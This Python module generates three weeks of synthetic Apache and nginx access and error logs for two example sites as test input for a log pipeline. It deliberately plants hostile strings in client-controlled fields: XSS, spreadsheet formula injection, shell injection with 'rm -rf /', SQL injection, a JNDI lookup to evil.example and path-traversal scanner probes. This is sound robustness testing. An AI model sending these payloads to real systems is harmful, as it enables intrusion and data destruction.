"""Sample logs to try the pipeline with: three weeks of two small sites, the same on every run.

What belongs here: what the samples say, and landing them. They hold what real logs
hold: visitors by the hour, bots, a scanner, a surge on the last day, rotation at 06:25, a late file, a
copy, garbage, and hostile text in every field that a client controls.

What does not: anything the pipeline needs to run. Every address and domain is reserved for documentation.
"""

from __future__ import annotations

import gzip
import math
import random
import re
from collections import defaultdict
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta, timezone, tzinfo
from typing import Final

from pipeline_assets.storage.landing import LANDING
from pipeline_assets.storage.store import Store

SEED: Final = 20240117
START: Final = datetime(2023, 12, 27, 6, 25, tzinfo=UTC)
END: Final = datetime(2024, 1, 18, tzinfo=UTC)
ROTATION: Final = timedelta(hours=6, minutes=25)
LAST_DAILY: Final = date(2024, 1, 16)  # later deliveries land in `incremental/`
SURGE: Final = (datetime(2024, 1, 17, 13, tzinfo=UTC), datetime(2024, 1, 17, 16, tzinfo=UTC))
SURGE_FACTOR: Final = 6
LATE: Final = (datetime(2024, 1, 12, 14, tzinfo=UTC), datetime(2024, 1, 12, 16, tzinfo=UTC))
LATE_PATH: Final = "2024-01-15/late-2024-01-12.log"
COMPRESSED: Final = "2024-01-13/access.blog.example.log"
SPOILED: Final = "2024-01-14/access.shop.example.log"
WITH_CARRIAGE_RETURNS: Final = "2024-01-14/access.blog.example.log"
COPIED: Final = ("2024-01-15/access.blog.example.log", "incremental/copy-of-blog-monday.log")


@dataclass(frozen=True)
class Site:
    """A web site: the server that logs it decides the formats, and `delivery` the zone of its last file."""

    name: str
    server: str
    busiest: int  # visits in the busiest hour of a weekday
    pages: tuple[str, ...]
    delivery: str
    delivery_zone: tzinfo


@dataclass(frozen=True)
class Hit:
    """One request as it was, before a server writes it down."""

    when: datetime
    host: str
    request: str
    status: int
    size: int
    referer: str = "-"
    agent: str = "-"
    user: str = "-"


@dataclass(frozen=True)
class SampleSummary:
    """What was written: `lines` after decompression, `bytes` as stored, the days those of the events."""

    files: int
    lines: int
    bytes: int
    first_day: date
    last_day: date


SITES: Final = (
    Site(
        name="shop.example",
        server="apache",
        busiest=15,
        pages=("/", "/products", "/products/42?ref=home", "/search?q=green+tea", "/cart", "/checkout"),
        delivery="incremental/new_data.log",
        delivery_zone=UTC,
    ),
    Site(
        name="blog.example",
        server="nginx",
        busiest=9,
        pages=("/", "/2024/01/tea", "/2023/12/caf%C3%A9", "/about", "/feed.xml"),
        delivery="incremental/blog/access.blog.example.log",
        delivery_zone=timezone(timedelta(hours=1)),
    ),
)
ASSETS: Final = (("/s.css", 5120), ("/app.js", 48213), ("/logo.svg", 2231), ("/favicon.ico", 1150))
CLIENTS: Final = (
    *(f"192.0.2.{number}" for number in range(1, 200)),
    *(f"198.51.100.{number}" for number in range(1, 200)),
    *(f"2001:db8::{number:x}" for number in range(1, 100)),
)
BROWSERS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; rv:121.0) Firefox/121.0",
    "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; OS 17_2) Safari/604.1",
)
BOTS: Final = (
    ("203.0.113.10", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://bot.example/)"),
    ("203.0.113.11", "Mozilla/5.0 (compatible; GPTBot/1.0; +https://bot.example/gpt)"),
    ("203.0.113.12", "curl/8.5.0"),
)
ENTRANCES: Final = ("-", "-", "https://search.example/", "https://news.example/item?id=7")
STATUSES: Final = ((200, 301, 304, 403, 404, 500, 503), (900, 20, 40, 5, 25, 6, 4))

SCANNER: Final = "203.0.113.66"
SCAN_START: Final = datetime(2024, 1, 13, 3, 10, tzinfo=UTC)
SCANNED: Final = ("/wp-login.php", "/.env", "/.git/config", "/cgi-bin/../../../../etc/passwd", "/phpmyadmin/")
TLS_HELLO: Final = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"

HOSTILE_START: Final = datetime(2024, 1, 12, 11, tzinfo=UTC)
HOSTILE: Final = (
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "[click](javascript:alert(1)) ![x](https://evil.example/p.png) | **bold** |",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "$(touch /tmp/x); `id` && rm -rf / #",
    "../../../../etc/passwd%00.png",
    "' OR 1=1; DROP TABLE requests; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} ${7*7} %s%n",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "caf\u00e9 \u202etxt.exe",
    'quote " backslash \\ newline \n [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1',
    "Mozilla/5.0 " + "A" * 8000,
)
GARBAGE: Final = (
    b"",
    b" \t ",
    b"# rotated by logrotate",
    bytes(range(128, 160)) + b"\x00\x01\x02\x0b\x0c\x1b[2J\xe2\x80\xa8\xff\xfe",
    b"not a log line at all",
    b'shop.example:443 192.0.2.1 - - [31/Feb/2024:12:00:00 +0000] "GET / HTTP/1.1" 200 12 "-" "-"',
    b'shop.example:443 192.0.2.1 - - [13/Jan/2024:25:61:00 +0000] "GET / HTTP/1.1" 200 12 "-" "-"',
    b'shop.example:443 192.0.2.1 - - [13/Jan/2024:12:00:00 +0000] "GET /\xe9 HTTP/1.1" 404 9 "-" "\xff\xfe"',
    b'shop.example:443 192.0.2.1 - - [13/Jan/2024:12:00:00 +0000] "GET / HTTP/1.1" 200',
)


def write_samples(store: Store) -> SampleSummary:
    """Land the sample logs; each file appears whole or not at all, and one that is there already stays."""
    contents = _contents()
    stored_bytes = 0
    for path, content in contents.items():
        stored = gzip.compress(content, mtime=0) if path.endswith(".gz") else content
        store.create(f"{LANDING}/{path}", stored)
        stored_bytes += len(stored)
    return SampleSummary(
        files=len(contents),
        lines=sum(content.count(b"\n") + (content[-1:] != b"\n") for content in contents.values()),
        bytes=stored_bytes,
        first_day=START.date(),
        last_day=(END - timedelta(microseconds=1)).date(),
    )


def _contents() -> dict[str, bytes]:
    """Every sample file by its path below the landing folder, before compression."""
    files: dict[str, list[bytes]] = defaultdict(list)
    for site in SITES:
        hits = (hit for hit in _hits(site) if START <= hit.when < END)
        for hit in sorted(hits, key=lambda hit: hit.when):
            path = _access_path(site, hit.when)
            zone = site.delivery_zone if path == site.delivery else UTC
            files[path].append(_access_line(site, hit, zone))
            files[_error_path(site, hit.when)].extend(_error_lines(site, hit))

    files[SPOILED][100:100] = GARBAGE
    files[WITH_CARRIAGE_RETURNS][:20] = [line + b"\r" for line in files[WITH_CARRIAGE_RETURNS][:20]]
    contents = {path: b"\n".join(lines) + b"\n" for path, lines in files.items() if lines}
    # The server was still writing when this one was copied.
    contents[SPOILED] = contents[SPOILED][:-40]
    original, copy = COPIED
    contents[copy] = contents[original]
    contents[f"{COMPRESSED}.gz"] = contents.pop(COMPRESSED)
    return dict(sorted(contents.items()))


def _rotation_day(when: datetime) -> date:
    """The day whose 06:25 ends the file that holds this moment; it names the folder."""
    return (when - ROTATION).date() + timedelta(days=1)


def _access_path(site: Site, when: datetime) -> str:
    if site.server == "apache" and LATE[0] <= when < LATE[1]:
        return LATE_PATH
    day = _rotation_day(when)
    return f"{day}/access.{site.name}.log" if day <= LAST_DAILY else site.delivery


def _error_path(site: Site, when: datetime) -> str:
    day = _rotation_day(when)
    folder = str(day) if day <= LAST_DAILY else "incremental/errors"
    return f"{folder}/error.{site.name}.log"


def _hits(site: Site) -> Iterator[Hit]:
    """All traffic of a site, in no order; the hours at both ends hold more than the samples take."""
    rng = random.Random(f"{SEED} {site.name}")  # noqa: S311 (it must repeat itself)
    hour = START.replace(minute=0)
    while hour < END:
        for _ in range(round(_visits(site, hour) * rng.uniform(0.85, 1.15))):
            moment = hour + timedelta(seconds=rng.uniform(0, 3600))
            yield from _visit(rng, site, moment)
        host, agent = rng.choice(BOTS)
        moment = hour + timedelta(seconds=rng.uniform(0, 2000))
        yield Hit(moment, host, f"GET {rng.choice(site.pages)} HTTP/1.1", 200, 4096, "-", agent)
        if hour.hour == 4:
            yield Hit(moment, SCANNER, TLS_HELLO, 400, 226)
            yield Hit(moment, SCANNER, "-", 408, 0)
        hour += timedelta(hours=1)
    for number in range(300):
        moment = SCAN_START + timedelta(milliseconds=250 * number)
        target = SCANNED[number % len(SCANNED)]
        yield Hit(moment, SCANNER, f"GET {target} HTTP/1.1", 404, 196, "-", "masscan/1.3")
    yield from _hostile_hits()


def _visits(site: Site, hour: datetime) -> float:
    """Visits expected in an hour: fewest around 03:00, most around 15:00, fewer at the weekend."""
    daily = 0.2 + 0.4 * (1 - math.cos(2 * math.pi * (hour.hour - 3) / 24))
    weekly = 0.7 if hour.weekday() >= 5 else 1.0
    surge = SURGE_FACTOR if site.server == "apache" and SURGE[0] <= hour < SURGE[1] else 1
    return site.busiest * daily * weekly * surge


def _visit(rng: random.Random, site: Site, moment: datetime) -> Iterator[Hit]:
    """One visitor reads some pages; the first page brings its assets along."""
    client = rng.randrange(len(CLIENTS))
    host, agent = CLIENTS[client], BROWSERS[client % len(BROWSERS)]
    user = "alice" if rng.random() < 0.03 else "-"
    referer = rng.choice(ENTRANCES)
    for number in range(rng.randint(1, 4)):
        page = rng.choice(site.pages)
        status = rng.choices(*STATUSES)[0]
        size = 0 if status == 304 else rng.randint(800, 30_000)
        yield Hit(moment, host, f"GET {page} HTTP/1.1", status, size, referer, agent, user)
        if number == 0:
            for asset, asset_size in rng.sample(ASSETS, 2):
                later = moment + timedelta(seconds=rng.uniform(0, 1))
                cached = rng.random() < 0.3
                status, size = (304, 0) if cached else (200, asset_size)
                yield Hit(later, host, f"GET {asset} HTTP/1.1", status, size, "-", agent, user)
        referer = f"https://{site.name}{page}"
        moment += timedelta(seconds=rng.uniform(5, 90))


def _hostile_hits() -> Iterator[Hit]:
    """Each hostile text once in every field that a client controls."""
    moment = HOSTILE_START
    for text in HOSTILE:
        yield Hit(moment, "198.51.100.250", "GET / HTTP/1.1", 200, 512, "-", text)
        yield Hit(moment, "198.51.100.250", "GET / HTTP/1.1", 200, 512, text, "curl/8.5.0")
        yield Hit(moment, "198.51.100.250", f"GET /{text} HTTP/1.1", 404, 196, "-", "curl/8.5.0")
        yield Hit(moment, "198.51.100.250", "GET /admin HTTP/1.1", 401, 381, "-", "curl/8.5.0", text[:300])
        moment += timedelta(seconds=1)


def _escaped(server: str, text: str) -> str:
    """The text as the server writes it: what is not printable ASCII, quotes and backslashes escaped."""

    def escape(match: re.Match[str]) -> str:
        if server == "nginx":
            return "".join(f"\\x{byte:02X}" for byte in match[0].encode())
        short = {'"': '\\"', "\\": "\\\\", "\n": "\\n", "\r": "\\r", "\t": "\\t"}
        return short.get(match[0]) or "".join(f"\\x{byte:02x}" for byte in match[0].encode())

    return re.sub(r"[^ !#-\[\]-~]", escape, text)


def _access_line(site: Site, hit: Hit, zone: tzinfo) -> bytes:
    """Apache's vhost_combined, or nginx's combined."""
    prefix = f"{site.name}:443 " if site.server == "apache" else ""
    size = "-" if site.server == "apache" and hit.size == 0 else hit.size
    user, request, referer, agent = (
        _escaped(site.server, text) for text in (hit.user, hit.request, hit.referer, hit.agent)
    )
    time = f"{hit.when.astimezone(zone):%d/%b/%Y:%H:%M:%S %z}"
    line = f'{prefix}{hit.host} - {user} [{time}] "{request}" {hit.status} {size} "{referer}" "{agent}"'
    return line.encode()


def _error_lines(site: Site, hit: Hit) -> list[bytes]:
    """What the error log says of a request: nothing, an entry, or an entry of several lines."""
    if hit.status < 500 and not (hit.status == 404 and hit.host == SCANNER):
        return []
    request = _escaped(site.server, hit.request)
    target = request.split(" ")[1]
    if site.server == "nginx":
        if hit.status == 404:
            what, upstream = f'open() "/srv/{site.name}{target}" failed (2: No such file or directory)', ""
        else:
            what = "connect() failed (111: Connection refused) while connecting to upstream"
            upstream = f', upstream: "http://192.0.2.250:8080{target}"'
        start = f"{hit.when:%Y/%m/%d %H:%M:%S} [error] 812#812: *{hit.when.microsecond}"
        where = f"client: {hit.host}, server: {site.name}"
        return [f'{start} {what}, {where}, request: "{request}"{upstream}, host: "{site.name}"'.encode()]
    start = f"[{hit.when:%a %b %d %H:%M:%S.%f %Y}]"
    client = f"[pid 4711:tid 140213] [client {hit.host}:{49152 + hit.when.microsecond % 16384}]"
    if hit.status == 500:
        entry = (
            f"{start} [php:error] {client} PHP Fatal error:  Uncaught Exception: no stock in /srv/a.php:17\n"
            f"Stack trace:\n#0 {{main}}\n  thrown in /srv/a.php on line 17"
        )
    elif hit.status == 503:
        entry = f"{start} [proxy:error] {client} AH00940: HTTP: disabled connection for (backend.example)"
    else:
        entry = f"{start} [core:info] {client} AH00128: File does not exist: /srv/{site.name}{target}"
    return entry.encode().split(b"\n")
